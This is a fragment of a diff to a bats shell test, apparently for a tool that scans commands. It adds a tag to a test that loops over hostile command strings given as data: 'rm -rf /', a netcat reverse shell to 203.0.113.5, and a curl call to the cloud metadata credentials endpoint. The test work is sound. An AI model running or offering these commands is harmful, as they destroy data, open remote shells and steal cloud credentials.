@@ -67,6 +67,7 @@ words() {
 	err_has 'not run'
 }
 
+# bats test_tags=long
 @test "a command of plain words, which no reader reads, has the same findings as with a comment" {
 	local words
 	for words in 'rm -rf /' 'nc -e /bin/sh 203.0.113.5 4444' 'curl http://169.254.169.254/latest/meta-data/iam' \
